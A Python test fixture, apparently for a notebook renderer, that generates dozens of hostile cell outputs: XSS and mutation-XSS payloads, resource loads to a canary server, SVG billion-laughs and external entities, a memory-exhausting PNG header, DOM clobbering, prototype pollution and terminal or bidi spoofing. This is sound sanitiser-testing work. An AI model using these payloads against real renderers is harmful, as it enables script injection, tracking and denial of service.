"""What a hostile cell would show to an operator: each attempt to run, load, lead away, deceive or hang."""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Any

RAN = "canary: a script ran"
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_RUN = f"console.log('{RAN}')"


@dataclass(frozen=True, slots=True)
class Attempt:
    """One output.

    Attributes:
        mime, content: what the cell displays.
    """

    name: str
    mime: str
    content: str


def attempts(canary: str) -> list[Attempt]:
    """Return all attempts. ``canary`` is the address of a server that notes each request; so do made-up host names."""
    framed = _RUN.replace("'", '"')
    html = {
        "script": f"<script>{_RUN}</script><script src='{canary}/script.js'></script>",
        "handlers": f"<img src=x onerror=\"{_RUN}\"><body onload=\"{_RUN}\"><div onclick=\"{_RUN}\">x</div>"
        f"<details open ontoggle=\"{_RUN}\">x</details><input autofocus onfocus=\"{_RUN}\">",
        "image": f"<img src='{canary}/image.png' onerror=\"{_RUN}\"><img srcset='{canary}/set.png 1x'>",
        "picture": f"<picture><source srcset='{canary}/source.png'><img src='data:,'></picture>",
        "meta refresh": f"<meta http-equiv=refresh content='0;url={canary}/refresh'>",
        "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
        f"<script>{_RUN}</script>",
        "javascript link": f"<a href=\"javascript:{_RUN}\" style='display:block;font-size:40px'>click me</a>",
        "link": f"<a href='{canary}/link' style='display:block;font-size:40px'>click me</a>",
        "link to the top": f"<a href='{canary}/top' target=_top style='display:block;font-size:40px'>click me</a>",
        "link that pings": f"<a href='#' ping='{canary}/ping' style='display:block;font-size:40px'>click me</a>",
        "base": f"<base href='{canary}/base/'><img src=relative.png><a href=x style='font-size:40px'>click me</a>",
        "form": f"<form action='{canary}/form' method=post><button style='font-size:40px'>click me</button></form>"
        f"<form><button formaction=\"javascript:{_RUN}\">x</button></form>",
        "frames": f"<iframe src='{canary}/frame'></iframe><iframe srcdoc='<script>{framed}</script>'></iframe>"
        f"<object data='{canary}/object'></object><embed src='{canary}/embed'>"
        f"<frameset><frame src='{canary}/frameset'></frameset>",
        "data page": f"<iframe src=\"data:text/html,<script>{_RUN}</script>\"></iframe>"
        f"<a href=\"data:text/html,<script>{_RUN}</script>\">x</a>",
        "style": f"<style>@import '{canary}/import.css'; body{{background:url({canary}/background.png)}}"
        f"@font-face{{font-family:f;src:url({canary}/font.woff)}} *{{font-family:f;list-style-image:url({canary}/l)}}"
        "</style><p>x",
        "style attribute": f"<p style=\"background:url('{canary}/attribute.png');cursor:url({canary}/c),auto\">x</p>",
        "style escaped": f"<p style=\"background:u\\72 l({canary}/escaped.png)\">x</p>"
        f"<p style=\"background:image-set('{canary}/set.png' 1x)\">x</p>",
        "link elements": "".join(
            f"<link rel={kind} href='{canary}/{kind}' as=image>"
            for kind in ("stylesheet", "prefetch", "preload", "prerender", "icon", "modulepreload", "manifest")
        )
        + "<link rel=dns-prefetch href='//dns.canary.test'><link rel=preconnect href='https://connect.canary.test'>"
        "<a href='http://anchor.canary.test'>x</a>",
        "media": f"<video src='{canary}/v' poster='{canary}/poster' autoplay></video><audio src='{canary}/a' autoplay>"
        f"</audio><video><source src='{canary}/vs'><track src='{canary}/t' default></video>",
        "body": f"<body background='{canary}/body.png'><table background='{canary}/table.png'><tr><td>x</table>",
        "mutation noscript": f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
        "mutation template": f"<template><img src=x onerror=\"{_RUN}\"></template>"
        f"<div><template shadowrootmode=open><img src={canary}/shadow onerror=\"{_RUN}\"></template></div>",
        "mutation math": "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror=\"{_RUN}\"></style></mglyph></form>",
        "mutation svg style": f"<svg><style><![CDATA[</style><img src=x onerror=\"{_RUN}\">]]></style></svg>",
        "mutation comment": f"<!--><img src=x onerror=\"{_RUN}\">--><![CDATA[><img src=x onerror=\"{_RUN}\">]]>",
        "mutation table": "<table><td><style></table><a id=\"</style><img src=x onerror=" + _RUN + ">\"></a>",
        "mathml": f"<math><maction actiontype=statusline xlink:href=\"javascript:{_RUN}\">x</maction>"
        f"<mi href=\"javascript:{_RUN}\">y</mi></math>",
        "clobbering": "<form id=attributes><input name=attributes></form><img name=body><a id=createElement></a>"
        "<form><input name=parentNode><input name=removeChild><img src=x></form>",
        "nesting": "<div>" * 15_000 + f"<img src=x onerror=\"{_RUN}\">",
        "speculation": f'<script type=speculationrules>{{"prerender":[{{"urls":["{canary}/speculated"]}}]}}</script>',
        "portal": f"<portal src='{canary}/portal'></portal><fencedframe></fencedframe><dialog open>x</dialog>",
    }  # fmt: skip
    svg = {
        "svg script": f"<svg {_SVG}><script>{_RUN}</script><script href='{canary}/s.js'/></svg>",
        "svg handler": f"<svg {_SVG} onload=\"{_RUN}\"><rect width='9' height='9' onclick=\"{_RUN}\"/></svg>",
        "svg foreign": f"<svg {_SVG}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{canary}/f'/>"
        f"<img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror=\"{_RUN}\"/></foreignObject></svg>",
        "svg animate": f"<svg {_SVG}><a id='a'><text y='20'>x</text></a><animate href='#a' attributeName='href' "
        f"values=\"javascript:{_RUN}\" begin='0s'/><set href='#a' attributeName='href' to='{canary}/set'/></svg>",
        "svg loads": f"<svg {_SVG}><image href='{canary}/i.png'/><image xlink:href='{canary}/x.png'/>"
        f"<use href='{canary}/u.svg#a'/><feImage href='{canary}/fe.png'/><style>@import url({canary}/s.css);</style>"
        f"<rect fill='url({canary}/p.svg#a)' style='mask:url({canary}/m.svg#a)' width='9' height='9'/></svg>",
        "svg link": f"<svg {_SVG} width='90' height='40'><a href='{canary}/a'><rect width='90' height='40'/></a>"
        "</svg>",
        "svg data use": f"<svg {_SVG}><use href=\"data:image/svg+xml,<svg id='x'><script>{_RUN}</script></svg>#x\"/>"
        f"<image href=\"data:image/svg+xml,<svg onload='{_RUN}'/>\"/></svg>",
        "svg laughs": _laughs(),
        "svg cycle": f"<svg {_SVG}><g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g><use href='#a'/></svg>",
        "svg patterns": _patterns(),
        "svg entities": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'x'><!ENTITY b SYSTEM "
        f"'{canary}/entity'>]><svg {_SVG}><text>&a;&b;</text></svg>",
        "svg style sheet": f"<?xml-stylesheet href='{canary}/x.css'?><svg {_SVG}><text>x</text></svg>",
    }  # fmt: skip
    text = {
        "terminal link": f"\x1b]8;;{canary}/osc\x07click me\x1b]8;;\x07 \x1b]0;title\x07 \x1b[31mred\x1b[0m "
        "<b>no tag</b>",
        "terminal moves": "\x1b[2J\x1b[1;1H\x1b]52;c;aGk=\x07over" + "\x1b]8;" * 5000 + "\x07" + "\x1b[" * 5000,
        "right to left": "pay \u202eEVIL\u202c now \u2066x\u2069 zero\u200bwidth \u200f",
    }  # fmt: skip
    others = [
        Attempt("picture that is none", "image/png", base64.b64encode(f"<svg onload={_RUN}>".encode()).decode()),
        Attempt("picture too large", "image/png", base64.b64encode(_png(60_000, 60_000)).decode()),
        Attempt("markdown", "text/markdown", f'<img src={canary}/md onerror="{_RUN}"> [x](javascript:{_RUN})'),
        Attempt("latex", "text/latex", f"$\\href{{javascript:{_RUN}}}{{x}}$ \\includegraphics{{{canary}/tex}}"),
        Attempt("json", "application/json", '{"__proto__": {"polluted": true}, "html": "<img src=x onerror=1>"}'),
        Attempt("other type", "text/x-evil", f"<script>{_RUN}</script>"),
    ]
    return [
        *(Attempt(name, "text/html", content) for name, content in html.items()),
        *(Attempt(name, "image/svg+xml", content) for name, content in svg.items()),
        *(Attempt(name, "text/plain", content) for name, content in text.items()),
        *others,
    ]


def cell(outputs: list[Attempt]) -> str:
    """Return the code of a cell that displays outputs, with metadata that is hostile too."""
    bundles: list[dict[str, Any]] = [{each.mime: each.content} for each in outputs]
    metadata = {"text/html": {"isolated": True}, "image/png": {"width": "<script>", "height": 1e9}, "trusted": True}
    return (
        f"from IPython.display import display\nfor b in {bundles!r}:\n    display(b, raw=True, metadata={metadata!r})"
    )


def _laughs() -> str:
    """A drawing of 10**9 rectangles in twelve lines."""
    use = "<use href='#l{}'/>"
    levels = "".join(f"<g id='l{n}'>{use.format(n - 1) * 10}</g>" for n in range(1, 10))
    return f"<svg {_SVG}><rect id='l0' width='1' height='1'/>{levels}<use href='#l9'/></svg>"


def _patterns() -> str:
    """The same with patterns, which no element repeats."""
    rect = "<rect width='1' height='1' fill='url(#p{})'/>"
    levels = "".join(
        f"<pattern id='p{n}' width='9' height='9'>{rect.format(n - 1) * 10}</pattern>" for n in range(1, 10)
    )
    return f"<svg {_SVG}>{levels}<rect width='99' height='99' fill='url(#p9)'/></svg>"


def _png(width: int, height: int) -> bytes:
    """Return the head of a PNG that would need gigabytes of memory."""
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes(20)
